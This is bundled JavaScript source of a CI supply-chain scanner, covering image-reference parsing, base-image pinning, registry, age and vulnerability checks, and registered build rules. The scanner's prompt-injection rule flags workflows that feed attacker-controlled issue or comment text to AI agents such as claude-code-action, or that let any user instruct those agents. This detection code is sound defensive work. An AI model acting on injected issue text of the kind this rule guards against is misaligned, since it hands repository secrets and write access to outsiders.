      const inputs = step.uses ? PROMPT_INPUTS.get(step.uses.name) : void 0;
      if (!inputs) return;
      for (const [name, entry2] of step.with) {
        if (!inputs.includes(name.toLowerCase()) || !entry2.value) continue;
        for (const expression of entry2.value.expressions) {
          const taint = tracker.expressionTaint(expression, { job, step, action: doc.kind === "action" ? doc : null });
          if (!taint || taint.level !== "arbitrary") continue;
          const { grade: grade2, why } = injectionGrade(taint, doc.kind === "workflow" ? doc : null, job, model);
          if (grade2 === "info") continue;
          const gates = job ? gatesFor(job, step) : [];
          const gated = gates.length > 0 ? `; lowered because ${gates.map((gate) => gate.note).join(", ")}` : "";
          const via = taint.via.length > 0 ? ` (via ${taint.via.join(" \u2192 ")})` : "";
          results.push({
            status: "fail",
            severity: applyGates(grade2, gates),
            message: `${stepLabel(step)}: \`\${{ ${expression.body.trim()} }}\` puts attacker-controlled text from ${taint.origin}${via} into the \`${name}\` of ${step.uses.name}, an AI agent that acts on it (${why.replace(/^\((.*)\)$/, "$1")})${gated}`,
            location: expressionLocation(doc, expression),
            fix: `Write the text to a file and tell the agent to read it as data (e.g. \`echo "$ISSUE_BODY" > issue.txt\` with \`ISSUE_BODY: \${{ ${expression.body.trim()} }}\` in env:), restrict the agent's tools, and keep secrets and write scopes out of the job.`
          });
        }
      }
    });
    const openToEveryone = (workflow, job, step) => {
      if (step.uses?.name !== "anthropics/claude-code-action") return;
      const allowed = step.with.get("allowed_non_write_users")?.value;
      if (!allowed || !allowed.value.split(",").some((user) => user.trim() === "*")) return;
      const taint = { level: "arbitrary", origin: "any user's issue, comment or review", via: [] };
      const { grade: grade2, why } = injectionGrade(taint, workflow, job, model);
      if (grade2 === "low" || grade2 === "info") return;
      const gates = gatesFor(job, step);
      const gated = gates.length > 0 ? `; lowered because ${gates.map((gate) => gate.note).join(", ")}` : "";
      results.push({
        status: "fail",
        severity: applyGates(grade2, gates),
        message: `${stepLabel(step)}: allowed_non_write_users: "*" lets anyone who can open an issue or comment instruct ${step.uses.name} (${why.replace(/^\((.*)\)$/, "$1")})${gated}`,
        location: strLocation(workflow, allowed),
        fix: "List the users who may trigger the agent (or leave allowed_non_write_users unset: only users with write access), and keep secrets and write scopes out of the job."
      });
    };
    eachStep(model, (doc, job, step) => {
      if (doc.kind === "workflow" && job) openToEveryone(doc, job, step);
    });
    return dedupeResults(results);
  }
});

// src/verify/manifests.ts
var POD_TEMPLATE_KINDS = /* @__PURE__ */ new Set(["Deployment", "ReplicaSet", "StatefulSet", "DaemonSet", "Job", "ReplicationController"]);
function manifestImages(path6, text) {
  const images = [];
  const problems = [];
  for (const part of documentParts(text)) {
    const file = { path: path6, lineCounter: new LineIndex(part) };
    let documents;
    try {
      documents = parseYamlDocuments(part);
    } catch (error) {
      if (!(error instanceof YamlSyntaxError)) throw error;
      const { line, col: column } = syntaxErrorPosition(part, file.lineCounter, error);
      problems.push({ path: path6, message: error.message.split("\n")[0] ?? error.message, location: { path: path6, startLine: line, startColumn: column, endLine: line, endColumn: column } });
      continue;
    }
    for (const doc of documents) imagesOf(doc, file, images);
  }
  return { images, problems };
}
function documentParts(text) {
  const lines2 = text.split("\n");
  const parts = [];
  let first = 0;
  const flush = (end) => {
    const body = lines2.slice(first, end).join("\n");
    if (body.trim() !== "") parts.push("\n".repeat(first) + body);
  };
  for (let index = 1; index < lines2.length; index += 1) {
    if (/^---(?:[ \t\r]|$)/.test(lines2[index])) {
      flush(index);
      first = index;
    }
  }
  flush(lines2.length);
  return parts;
}
function imagesOf(doc, file, images) {
  const visit = (resource) => {
    const kind = scalarText(doc, entry(doc, resource, "kind")?.value);
    if (!kind) return;
    if (kind === "List") {
      for (const item of asSeq(doc, entry(doc, resource, "items")?.value)?.items ?? []) visit(item);
      return;
    }
    const name = scalarText(doc, entry(doc, entry(doc, resource, "metadata")?.value, "name")?.value) ?? "(unnamed)";
    const spec = entry(doc, resource, "spec")?.value;
    let podSpec;
    if (kind === "Pod") podSpec = spec;
    else if (POD_TEMPLATE_KINDS.has(kind)) podSpec = entry(doc, entry(doc, spec, "template")?.value, "spec")?.value;
    else if (kind === "CronJob") podSpec = entry(doc, entry(doc, entry(doc, entry(doc, spec, "jobTemplate")?.value, "spec")?.value, "template")?.value, "spec")?.value;
    else return;
    if (!asMap(doc, podSpec)) return;
    for (const list of ["initContainers", "containers", "ephemeralContainers"]) {
      for (const container of asSeq(doc, entry(doc, podSpec, list)?.value)?.items ?? []) {
        const imageEntry = entry(doc, container, "image");
        const image = scalarText(doc, imageEntry?.value);
        if (!image || !imageEntry?.value) continue;
        const containerName = scalarText(doc, entry(doc, container, "name")?.value) ?? "(unnamed)";
        images.push({ image, kind, name, container: containerName, location: locate(file, imageEntry.value) });
      }
    }
  };
  visit(doc.contents);
}

// src/images/sources/reference.ts
var DOCKER_HUB = "docker.io";
var DOCKER_HUB_API = "registry-1.docker.io";
var COMPONENT = /^[a-z0-9]+(?:(?:[._]|__|-+)[a-z0-9]+)*$/;
var DOMAIN = /^(?:(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9])(?:\.(?:[a-zA-Z0-9]|[a-zA-Z0-9][a-zA-Z0-9-]*[a-zA-Z0-9]))*|\[[0-9A-Fa-f:.]+\])(?::[0-9]+)?$/;
var TAG = /^[\w][\w.-]{0,127}$/;
var DIGEST2 = /^[a-z0-9]+(?:[.+_-][a-z0-9]+)*:[a-zA-Z0-9=_-]{32,}$/;
var KNOWN_DIGESTS = { sha256: /^[a-f0-9]{64}$/, sha512: /^[a-f0-9]{128}$/ };
var MAX_NAME = 255;
function parseImageRef(text) {
  const fail = (reason) => ({ ok: false, reason });
  if (text === "") return fail("the image reference is empty");
  if (/\s/.test(text)) return fail("an image reference has no spaces");
  let rest = text;
  let digest;
  const at = rest.indexOf("@");
  if (at >= 0) {
    digest = rest.slice(at + 1);
    rest = rest.slice(0, at);
    if (!DIGEST2.test(digest)) return fail(`${JSON.stringify(digest)} is not a digest (ALGORITHM:HEX)`);
    const [algorithm, encoded] = [digest.slice(0, digest.indexOf(":")), digest.slice(digest.indexOf(":") + 1)];
    const expected = KNOWN_DIGESTS[algorithm];
    if (expected && !expected.test(encoded)) return fail(`${JSON.stringify(digest)} is not a ${algorithm} digest (${algorithm === "sha256" ? 64 : 128} lower-case hex digits)`);
  }
  let tag;
  const lastSlash = rest.lastIndexOf("/");
  const colon = rest.lastIndexOf(":");
  if (colon > lastSlash) {
    tag = rest.slice(colon + 1);
    rest = rest.slice(0, colon);
    if (!TAG.test(tag)) return fail(`${JSON.stringify(tag)} is not a valid tag`);
  }
  const slash = rest.indexOf("/");
  const first = slash >= 0 ? rest.slice(0, slash) : "";
  const hasDomain = slash >= 0 && (first.includes(".") || first.includes(":") || first === "localhost" || first !== first.toLowerCase());
  let registry = hasDomain ? first.toLowerCase() : DOCKER_HUB;
  let path6 = hasDomain ? rest.slice(slash + 1) : rest;
  if (hasDomain && !DOMAIN.test(first)) return fail(`${JSON.stringify(first)} is not a registry host`);
  if (registry === "index.docker.io" || registry === DOCKER_HUB_API) registry = DOCKER_HUB;
  if (path6 === "") return fail("the image reference has no repository");
  for (const component of path6.split("/")) {
    if (COMPONENT.test(component)) continue;
    if (COMPONENT.test(component.toLowerCase())) return fail(`repository ${JSON.stringify(path6)} must be lower case`);
    return fail(`repository ${JSON.stringify(path6)} is not valid (components of a-z, 0-9 and separators . _ __ -)`);
  }
  if (registry === DOCKER_HUB && !path6.includes("/")) path6 = `library/${path6}`;
  if (`${registry}/${path6}`.length > MAX_NAME) return fail(`the repository name is longer than ${MAX_NAME} characters`);
  const defaultTag = tag === void 0 && digest === void 0;
  if (defaultTag) tag = "latest";
  const canonical = `${registry}/${path6}${tag !== void 0 ? `:${tag}` : ""}${digest !== void 0 ? `@${digest}` : ""}`;
  const apiName = `${registry === DOCKER_HUB ? DOCKER_HUB_API : registry}/${path6}`;
  return {
    ok: true,
    ref: { registry, repository: path6, ...tag !== void 0 ? { tag } : {}, ...defaultTag ? { defaultTag: true } : {}, ...digest !== void 0 ? { digest } : {}, canonical, apiName }
  };
}
function familiarName(ref) {
  let name = ref.registry === DOCKER_HUB ? ref.repository.replace(/^library\/(?=[^/]+$)/, "") : `${ref.registry}/${ref.repository}`;
  if (ref.tag !== void 0 && !ref.defaultTag) name += `:${ref.tag}`;
  if (ref.digest !== void 0) name += `@${ref.digest}`;
  return name;
}

// src/images/sources/kubernetes.ts
function looksLikeManifest(relative, text) {
  if (!/\.ya?ml$/i.test(relative) || relative.startsWith(".github/")) return false;
  if (text.includes("{{")) return false;
  return /^\s*apiVersion\s*:/m.test(text) && /^\s*kind\s*:/m.test(text) && /^\s*-?\s*image\s*:/m.test(text);
}
function kubernetesImages(path6, text) {
  const found = manifestImages(path6, text);
  const images = found.images.map((image) => {
    const context = `${image.kind}/${image.name} container ${image.container}`;
    const parsed = parseImageRef(image.image.trim());
    const base = { kind: "kubernetes", context, location: image.location, text: image.image.trim() };
    return parsed.ok ? { ...base, ref: parsed.ref } : { ...base, unknown: `not a valid image reference: ${parsed.reason}` };
  });
  return { images, problems: found.problems.map((problem) => ({ path: problem.path, message: problem.message, location: problem.location })) };
}

// src/images/sources/workflow.ts
function workflowImages(workflow) {
  const images = [];
  const add = (kind, context, str2, text = str2.value) => {
    const location = nodeLocation(workflow, str2.node);
    const written = text.trim();
    if (str2.expressions.length > 0) {
      const shown = str2.expressions.map((expression) => `\${{ ${expression.body.trim()} }}`).join(", ");
      images.push({ kind, context, location, text: written, unknown: `the image is computed by ${shown}, whose values chaingate does not resolve` });
      return;
    }
    const parsed = parseImageRef(written);
    images.push(parsed.ok ? { kind, context, location, text: written, ref: parsed.ref } : { kind, context, location, text: written, unknown: `not a valid image reference: ${parsed.reason}` });
  };
  for (const job of workflow.jobs) {
    if (job.container?.image && job.container.image.value.trim() !== "") add("workflow-container", `job ${job.id}: container`, job.container.image);
    for (const service of job.services) {
      if (service.image && service.image.value.trim() !== "") add("workflow-service", `job ${job.id}: service ${service.name ?? "?"}`, service.image);
    }
    for (const step of job.steps) {
      if (step.uses?.kind === "docker" && step.uses.image) {
        const str2 = { value: step.uses.raw, node: step.uses.node, expressions: [] };
        if (step.uses.raw.includes("${{")) continue;
        add("workflow-step", `job ${job.id}: step ${step.index + 1} (docker://)`, str2, step.uses.image);
      }
    }
  }
  return images;
}

// src/images/sources/index.ts
var MAX_DOCKERFILE_BYTES = 1024 * 1024;
var MAX_MANIFEST_BYTES = 4 * 1024 * 1024;
var CONTAINER_TEXT = /\b(?:container|services)\s*:|docker:\/\//;
function isDockerfileName(relative) {
  const base = relative.slice(relative.lastIndexOf("/") + 1);
  if (/\.(?:md|txt|rst|adoc|html|dockerignore)$/i.test(base)) return false;
  return /^(?:Dockerfile|Containerfile)(?:\..+)?$/i.test(base) || /\.(?:Dockerfile|Containerfile)$/i.test(base);
}
async function collectImageSources(workspace, pushed = [], options = {}) {
  const result = { images: [], problems: [], files: { dockerfiles: [], manifests: [], workflows: [] } };
  const ignored = workspace.isIgnored;
  for (const relative of workspace.files()) {
    if (ignored(relative)) continue;
    if (isDockerfileName(relative)) {
      const read = workspace.readText(relative, MAX_DOCKERFILE_BYTES, { cache: false });
      if (!read.ok) {
        result.problems.push({ path: relative, message: `cannot read: ${read.reason}` });
        continue;
      }
      result.files.dockerfiles.push(relative);
      const { dockerfileImages } = await import("./dockerfile-I45B333M.js");
      result.images.push(...dockerfileImages(relative, read.text));
    } else if (!options.dockerfilesOnly && /\.ya?ml$/i.test(relative) && !relative.startsWith(".github/")) {
      const read = workspace.readText(relative, MAX_MANIFEST_BYTES, { cache: false });
      if (!read.ok || !looksLikeManifest(relative, read.text)) continue;
      result.files.manifests.push(relative);
      const found = kubernetesImages(relative, read.text);
      result.images.push(...found.images);
      result.problems.push(...found.problems);
    }
  }
  if (options.dockerfilesOnly) return result;
  for (const { path: path6, kind } of listWorkflowFiles(workspace, ignored)) {
    if (kind !== "workflow") continue;
    const read = workspace.readText(path6, MAX_WORKFLOW_BYTES);
    if (!read.ok || !CONTAINER_TEXT.test(read.text)) continue;
    const parsed = parseWorkflowText(path6, "workflow", read.text);
    if (!parsed.ok) {
      const { line, column } = parsed.failure;
      result.problems.push({ path: path6, message: `workflow does not parse: ${parsed.failure.message}`, location: { path: path6, startLine: line, startColumn: column, endLine: line, endColumn: column } });
      continue;
    }
    result.files.workflows.push(path6);
    result.images.push(...workflowImages(buildWorkflow(Object.assign(parsed.file, { kind: "workflow" }))));
  }
  for (const text of pushed) result.images.push(pushedImage(text));
  return result;
}
function pushedImage(text) {
  const parsed = parseImageRef(text.trim());
  const base = { kind: "pushed", context: "pushed image", text: text.trim() };
  return parsed.ok ? { ...base, ref: parsed.ref } : { ...base, unknown: `not a valid image reference: ${parsed.reason}` };
}
var imageSourcesFact = defineFact("images.sources", async (ctx) => known(await collectImageSources(ctx.workspace, ctx.images?.pushed ?? [])));
var dockerfileSourcesFact = defineFact("images.dockerfile-sources", async (ctx) => known(await collectImageSources(ctx.workspace, [], { dockerfilesOnly: true })));
function buildImages(sources) {
  return sources.images.filter((image) => image.kind === "dockerfile-from" || image.kind === "dockerfile-copy");
}

// src/images/sources/config.ts
var DEFAULT_PLATFORM = "linux/amd64";
var MAX_CONFIG_BYTES = 4 * 1024 * 1024;
var CONCURRENCY2 = 4;
function configKey(ref, platform) {
  return `${ref.canonical} ${platform}`;
}
function platformFor(source) {
  if (source.platform && /^[a-z0-9_.-]+\/[a-z0-9_.-]+(?:\/[a-z0-9_.-]+)?$/i.test(source.platform)) return { platform: source.platform.toLowerCase(), source: "written" };
  return { platform: DEFAULT_PLATFORM, source: "default" };
}
var OFFLINE_REASON = "the run is offline (--offline): no registry is contacted, so the base image configuration is not read";
var imageConfigsFact = defineFact("images.base-configs", async (ctx) => {
  const registries = ctx.registries;
  if (!registries || registries.offline) return unknownFact("not-available", OFFLINE_REASON);
  const sources = await ctx.get(dockerfileSourcesFact);
  if (!sources.known) return sources;
  const wanted = /* @__PURE__ */ new Map();
  for (const image of buildImages(sources.value)) {
    if (!image.ref) continue;
    const { platform, source } = platformFor(image);
    wanted.set(configKey(image.ref, platform), { ref: image.ref, platform, platformSource: source });
  }
  const byRepository = /* @__PURE__ */ new Map();
  for (const entry2 of wanted.entries()) {
    const list = byRepository.get(entry2[1].ref.apiName) ?? [];
    list.push(entry2);
    byRepository.set(entry2[1].ref.apiName, list);
  }
  const results = /* @__PURE__ */ new Map();
  const queue = [...byRepository.values()];
  const worker = async () => {
    for (let next = queue.shift(); next; next = queue.shift()) {
      for (const [key2, item] of next) results.set(key2, await readConfig(registries, item.ref, item.platform, item.platformSource));
    }
  };
  await Promise.all(Array.from({ length: Math.min(CONCURRENCY2, queue.length) }, worker));
  return known({ results });
});
function variantOf(architecture, variant) {
  if (variant) return variant;
  if (architecture === "arm64") return "v8";
  if (architecture === "arm") return "v7";
  return void 0;
}
function pickPlatform(manifests, platform) {
  const [os, architecture, variant] = platform.split("/");
  const wanted = variantOf(architecture, variant);
  return manifests.find((entry2) => {
    const p = entry2.platform;
    if (!p || p.os !== os || p.architecture !== architecture) return false;
    return variantOf(architecture, typeof p.variant === "string" ? p.variant : void 0) === wanted;
  });
}
async function readConfig(registries, ref, platform, platformSource) {
  const reader = (await registries.pool()).reader(ref.apiName, await registries.credentials(ref.apiName));
  const shown = `${ref.registry}/${ref.repository}`;
  try {
    let manifest = await reader.manifest(ref.digest ?? ref.tag ?? "latest");
    if (!manifest) return { ok: false, reason: `${ref.canonical} is not in the registry (404)` };
    const list = manifest.body.manifests;
    if (Array.isArray(list)) {
      const entry2 = pickPlatform(list, platform);
      if (!entry2 || typeof entry2.digest !== "string") {
        const offered = list.map((item) => [item.platform?.os, item.platform?.architecture, item.platform?.variant].filter((part) => typeof part === "string").join("/")).filter((name) => name !== "" && name !== "unknown/unknown");
        return { ok: false, reason: `${ref.canonical} has no ${platform} image (the index lists ${offered.length > 0 ? offered.join(", ") : "no platform"})` };
      }
      manifest = await reader.manifest(entry2.digest);
      if (!manifest) return { ok: false, reason: `${shown}@${entry2.digest} (${platform}) is listed by the index but not in the registry` };
    }
    const config = manifest.body.config;
    if (!config || typeof config.digest !== "string") return { ok: false, reason: `${ref.canonical}: the manifest has no config (not an image manifest: ${manifest.mediaType || "no media type"})` };
    const bytes = await reader.blob(config.digest, MAX_CONFIG_BYTES);
    let body;
    try {
      body = JSON.parse(bytes.toString("utf8"));
    } catch {
      return { ok: false, reason: `${ref.canonical}: the image config is not JSON` };
    }
    const created = typeof body.created === "string" ? body.created : void 0;
    return { ok: true, digest: manifest.digest, platform, platformSource, ...created !== void 0 ? { created } : {} };
  } catch (error) {
    const cause = error.cause;
    const message2 = errorMessage(error);
    const hint = /HTTP 40[13]\b/.test(message2) ? ": the registry wants credentials chaingate does not have (docker login, or REGISTRY_USERNAME/REGISTRY_PASSWORD)" : "";
    return { ok: false, reason: `${shown}: ${message2}${cause ? ` (${errorMessage(cause)})` : ""}${hint}` };
  }
}

// src/inventory/fact.ts
var inventoryFact = defineFact("workspace.inventory", async (ctx) => {
  const prescan = ctx.sbom?.only ? void 0 : await ctx.get(workflowPrescanFact);
  const inventory = ctx.sbom?.only ? { packages: [], edges: [], files: [], problems: [] } : await (await import("./collect-22DGNCOY.js")).collectInventory(ctx.workspace, prescan?.known ? { prescan: prescan.value } : {});
  if (ctx.sbom && ctx.sbom.files.length > 0) {
    const { addSbomFiles } = await import("./collect-XRN4JGCR.js");
    addSbomFiles(inventory, ctx.workspace, ctx.sbom.files);
  }
  return known(inventory);
});

// src/advisories/fact.ts
var NO_SOURCE_REASON = "no advisory source: use --advisories github|osv|DIR (action input `advisories`, or `advisories: source:` in the policy); a run with a GitHub token uses GitHub's advisory database by default";
function runAdvisorySource(ctx) {
  const options = ctx.advisories;
  const setting = options?.source ?? (ctx.github ? { kind: "github" } : null);
  if (!setting) return unknownFact("no-token", NO_SOURCE_REASON);
  return createSource(setting, {
    github: ctx.github ?? options?.anonymousGithub ?? null,
    ...options?.osvCacheDir ? { osvCacheDir: options.osvCacheDir } : {},
    ...options?.http ? { http: options.http } : {},
    now: ctx.now
  });
}
var advisoriesFact = defineFact("dependencies.advisories", async (ctx) => {
  const inventory = await ctx.get(inventoryFact);
  if (!inventory.known) return inventory;
  const source = runAdvisorySource(ctx);
  if ("known" in source) return source;
  return known(await source.check(inventory.value.packages));
});

// src/images/scan-fact.ts
var OFFLINE_IMAGE_REASON = "the run is offline (--offline): no registry is contacted, so the image is not read";
var imageScansFact = defineFact("images.scans", async (ctx) => {
  const named = ctx.images?.pushed ?? [];
  if (named.length === 0) return known({ images: [] });
  const source = runAdvisorySource(ctx);
  if ("known" in source) return source;
  const { scanImages } = await import("./vulnerabilities-ASBRLM7E.js");
  return known({ images: await scanImages(named.map((reference) => ({ reference, ...ctx.images?.platform ? { platform: ctx.images.platform } : {} })), source, ctx.registries) });
});
var baseImageScansFact = defineFact("images.base-scans", async (ctx) => {
  const sources = await ctx.get(dockerfileSourcesFact);
  if (!sources.known) return sources;
  const wanted = /* @__PURE__ */ new Map();
  for (const image of buildImages(sources.value)) {
    if (!image.ref) continue;
    const { platform } = platformFor(image);
    wanted.set(configKey(image.ref, platform), { reference: image.ref.canonical, platform });
  }
  if (wanted.size === 0) return known(/* @__PURE__ */ new Map());
  const registries = ctx.registries;
  if (!registries || registries.offline) return unknownFact("not-available", "the run is offline (--offline): no registry is contacted, so the base images are not read");
  const source = runAdvisorySource(ctx);
  if ("known" in source) return source;
  const { scanImages } = await import("./vulnerabilities-ASBRLM7E.js");
  const keys = [...wanted.keys()];
  const scans = await scanImages([...wanted.values()], source, registries);
  return known(new Map(keys.map((key2, index) => [key2, scans[index]])));
});

// src/rules/build/base-image-policy.ts
var SOURCE_GROUPS = ["dockerfile", "kubernetes", "workflow", "pushed"];
var GROUP_OF = {
  "dockerfile-from": "dockerfile",
  "dockerfile-copy": "dockerfile",
  kubernetes: "kubernetes",
  "workflow-container": "workflow",
  "workflow-service": "workflow",
  "workflow-step": "workflow",
  pushed: "pushed"
};
var PINNED = /@sha256:[0-9a-f]{64}$/;
var DAY_MS = 864e5;
var PLACEHOLDER_BEFORE = Date.UTC(2013, 0, 1);
var SEVERITY_ORDER = ["low", "medium", "high", "critical"];
var DOCKER_HUB_ALIASES = /* @__PURE__ */ new Set(["index.docker.io", "registry-1.docker.io", "registry.hub.docker.com"]);
function registryAllowed(registry, repository, globs) {
  return globs.some((glob) => {
    const [host2, ...rest] = glob.split("/");
    const wantedHost = DOCKER_HUB_ALIASES.has(host2.toLowerCase()) ? "docker.io" : host2.toLowerCase();
    if (!new Minimatch(wantedHost, { nocase: true }).match(registry)) return false;
    return rest.length === 0 || new Minimatch(rest.join("/")).match(repository);
  });
}
function what(image) {
  const written = image.resolved ? `${image.text} (${image.resolved} with the ARG defaults)` : image.text;
  switch (image.kind) {
    case "dockerfile-from":
      return `FROM ${written} (${image.context})`;
    case "dockerfile-copy":
      return `COPY --from=${written}`;
    case "pushed":
      return `pushed image ${written}`;
    default:
      return `${image.context} image ${written}`;
  }
}
function digestResult(image) {
  const at = image.location ? { location: image.location } : {};
  if (!image.ref) {
    if (PINNED.test(image.text)) return null;
    return { status: "unknown", message: `${what(image)}: cannot tell whether it is pinned by digest: ${image.unknown}`, ...at };
  }
  if (image.ref.digest) return null;
  const ref = image.ref;
  let severity = "medium";
  let why = `is pinned to the tag :${ref.tag}, which its publisher can move, not to a digest`;
  if (ref.defaultTag) {
    severity = "high";
    why = "has no tag (it means :latest) and no digest";
  } else if (ref.tag === "latest") {
    severity = "high";
    why = "uses the :latest tag and no digest";
  }
  const fixable = image.resolved === void 0 && image.kind !== "pushed";
  return { status: "fail", severity, message: `${what(image)} ${why}`, ...at, ...fixable ? { fix: `${image.text}@sha256:<digest>` } : {} };
}
function registryResult(image, allowed) {
  if (allowed.length === 0) return null;
  const at = image.location ? { location: image.location } : {};
  if (!image.ref) return { status: "unknown", message: `${what(image)}: cannot tell its registry: ${image.unknown}`, ...at };
  if (registryAllowed(image.ref.registry, image.ref.repository, allowed)) return null;
  return { status: "fail", severity: "high", message: `${what(image)} comes from ${image.ref.registry}/${image.ref.repository}, which allowed-registries does not list (${allowed.join(", ")})`, ...at };
}
var baseImagePolicy = defineRule({
  meta: {
    id: "base-image-policy",
    area: "build",
    severity: "high",
    title: "Base image outside the base image policy",
    rationale: "The base image is most of what ships: its packages, its vulnerabilities, its publisher. A `FROM` by tag builds on whatever the registry serves that day; a base image from an unvetted registry is an unreviewed supplier; a base image nobody rebuilt for a year carries a year of unpatched packages.",
    remediation: "Pin `FROM` by digest (`FROM node:22-bookworm@sha256:<digest>`) and let Dependabot (docker ecosystem) or Renovate move it; take base images from the registries the policy lists; rebuild on a fresh base image.",
    references: ["SSC-45", "OSPS-BR-05.01", "Kubernetes supply-chain guide: container base images", "Scorecard: Pinned-Dependencies (containerImage)", "hadolint DL3006, DL3007"],
    access: { token: "none", note: "max-age-days reads each base image\u2019s manifest and config, vulnerabilities its layers too, from its registry (credentials from the Docker config or REGISTRY_USERNAME/REGISTRY_PASSWORD); not with --offline. vulnerabilities also needs an advisory source (--advisories)" }
  },
  needs: [dockerfileSourcesFact],
  usesWith: (options) => [
    // Manifests and workflows are read only when the rule judges their images.
    ...(options.sources ?? []).some((group) => group !== "dockerfile") ? [imageSourcesFact] : [],
    ...options["max-age-days"] !== null && options["max-age-days"] !== void 0 ? [imageConfigsFact] : [],
    ...options.vulnerabilities !== void 0 && options.vulnerabilities !== "off" ? [baseImageScansFact] : []
  ],
  defaultOptions: { "require-digest": true, "allowed-registries": [], "max-age-days": null, vulnerabilities: "off", sources: ["dockerfile"] },
  strictOptions: { "require-digest": true, "max-age-days": 180 },
  optionsSchema: {
    type: "object",
    properties: {
      "require-digest": { type: "boolean", description: "every image pinned by @sha256: digest (default true; no tag or :latest is high, another tag medium)" },
      "allowed-registries": { type: "array", items: { type: "string", minLength: 1 }, description: "registry globs (docker.io, ghcr.io, *.azurecr.io) or registry/repository globs (docker.io/library/*); empty: any registry" },
      "max-age-days": { type: ["integer", "null"], minimum: 1, description: "fail when the image config says it was created more than N days ago (reads the registry); null: not checked (strict: 180)" },
      vulnerabilities: { enum: ["off", "critical", "high", "medium", "low"], description: "lowest severity of a base image vulnerability that fails (reads the registry and the run's advisory source); off: not checked" },
      sources: { type: "array", items: { enum: [...SOURCE_GROUPS] }, uniqueItems: true, description: "images judged: dockerfile (FROM, COPY --from; the default), kubernetes, workflow (container, services, docker://), pushed (--image / input image)" }
    }
  },
  checkOptions(options) {
    const problems = [];
    for (const glob of options["allowed-registries"] ?? []) {
      if (glob.trim() !== glob || glob.includes("://")) problems.push({ key: "allowed-registries", message: `base-image-policy allowed-registries: ${JSON.stringify(glob)} must be a registry host or registry/repository glob, without a scheme or spaces` });
    }
    return problems;
  },
  gapsHandled: [imageConfigsFact, baseImageScansFact],
  evaluate(ctx) {
    const options = ctx.options;
    const sources = options.sources.some((group) => group !== "dockerfile") ? ctx.fact(imageSourcesFact) : ctx.fact(dockerfileSourcesFact);
    if (!sources.known) return [{ status: "unknown", message: sources.reason }];
    const maxAge = options["max-age-days"];
    const images = sources.value.images.filter((image) => options.sources.includes(GROUP_OF[image.kind]));
    const configs = maxAge !== null ? ctx.fact(imageConfigsFact) : null;
    const scans = options.vulnerabilities !== "off" ? ctx.fact(baseImageScansFact) : null;
    const results = [];
    for (const image of images) {
      const at = image.location ? { location: image.location } : {};
      if (options["require-digest"]) {
        const result = digestResult(image);
        if (result) results.push(result);
      }
      const registry = registryResult(image, options["allowed-registries"]);
      if (registry) results.push(registry);
      if (maxAge !== null && configs && GROUP_OF[image.kind] === "dockerfile") {
        if (!image.ref) results.push({ status: "unknown", message: `${what(image)}: base image age not checked: ${image.unknown}`, ...at });
        else if (!configs.known) results.push({ status: "unknown", message: `${what(image)}: base image age not checked: ${configs.reason}`, ...at });
        else {
          const { platform, source } = platformFor(image);
          const result = configs.value.results.get(configKey(image.ref, platform));
          if (!result) results.push({ status: "unknown", message: `${what(image)}: base image age not checked: its configuration was not read`, ...at });
          else if (!result.ok) results.push({ status: "unknown", message: `${what(image)}: base image age not checked: ${result.reason}`, ...at });
          else {
            const shown = `${familiarName(image.ref)} (${platform}${source === "default" ? `, the default platform${image.platformUnknown ? `: ${image.platformUnknown}` : ""}` : ""}; ${result.digest})`;
            const created = result.created === void 0 ? Number.NaN : Date.parse(result.created);
            if (result.created === void 0) results.push({ status: "unknown", message: `${what(image)}: base image age not checked: the image config of ${shown} has no created date`, ...at });
            else if (Number.isNaN(created)) results.push({ status: "unknown", message: `${what(image)}: base image age not checked: the image config of ${shown} has created ${JSON.stringify(result.created)}, not a date`, ...at });
            else if (created < PLACEHOLDER_BEFORE) results.push({ status: "unknown", message: `${what(image)}: base image age not checked: the image config of ${shown} records no real creation date (created ${result.created}, as reproducible builds write)`, ...at });
            else {
              const days = Math.floor((ctx.now.getTime() - created) / DAY_MS);
              if (days > maxAge) {
                results.push({ status: "fail", severity: "medium", message: `${what(image)}: the base image ${shown} was created ${result.created.slice(0, 10)}, ${days} days ago, more than max-age-days ${maxAge}`, ...at });
              }
            }
          }
        }
      }
      if (options.vulnerabilities !== "off" && GROUP_OF[image.kind] === "dockerfile") results.push(...vulnerabilityResults(image, options.vulnerabilities, scans));
    }
    return results;
  }
});
function vulnerabilityResults(image, threshold, scans) {
  const at = image.location ? { location: image.location } : {};
  if (!image.ref) return [{ status: "unknown", message: `${what(image)}: vulnerabilities not checked: ${image.unknown}`, ...at }];
  if (!scans.known) return [{ status: "unknown", message: `${what(image)}: vulnerabilities not checked: ${scans.reason}`, ...at, ...scans.permission ? { permission: scans.permission } : {} }];
  const scan = scans.value.get(configKey(image.ref, platformFor(image).platform));
  if (!scan) return [{ status: "unknown", message: `${what(image)}: vulnerabilities not checked: the image was not read`, ...at }];
  const results = imageUnknowns([{ scan, label: what(image), ...image.location ? { at: image.location } : {} }]);
  if (!scan.ok) return results;
  const lowest = SEVERITY_ORDER.indexOf(threshold);
  let below = 0;
  for (const match of scan.report.matches) {
    const severity = match.advisory.malicious ? "critical" : matchSeverity(match);
    if (match.advisory.severity.word !== null && SEVERITY_ORDER.indexOf(severity) < lowest) {
      below += 1;
      continue;
    }
    const kind = match.advisory.malicious ? "a known malicious package: " : "";
    results.push({ status: "fail", severity, message: `${what(image)}: ${imagePackageLabel(match.package)} is ${kind}vulnerable: ${advisoryLabel(match)}; ${imageFixState(match)}`, ...imageMatchFields(scan, match, image.location) });
  }
  if (results.length === 0) {
    results.push({ status: "pass", message: `${what(image)} (${scan.platform}${scan.distro ? `, ${scan.distro}` : ""}): no known vulnerability at or above ${threshold} in ${scan.packages} packages checked against ${sourceLabel(scan.report)}${below ? ` (${below} below)` : ""}`, ...at, details: { image: scan.reference, imageDigest: scan.digest } });
  }
  return results;
}

// src/rules/build/index.ts
var buildRules = [invalidWorkflow, unpinnedUses, excessivePermissions];
buildRules.push(
  knownVulnerableActions,
  impostorCommit,
  refConfusion,
  refVersionMismatch,
  unpinnedImages,
  artipacked,
  secretsInherit,
  overprovisionedSecrets,
  hardcodedContainerCredentials,
  selfHostedRunner,
  insecureCommands,
  downloadExecute,
  useTrustedPublishing,
  debugLogging,
  actionsDefaultPermissions,
  actionsCanApprovePrs,
  actionsAllowedActions,
  actionsShaPinningRequired,
  actionsForkPrApproval,
  releaseEnvironmentProtection
);
buildRules.push(templateInjection, dangerousTriggers, untrustedCheckout, pwnRequest, cachePoisoning, githubEnv, unsoundCondition, botConditions, unsoundContains);
buildRules.push(promptInjection);
buildRules.push(baseImagePolicy);

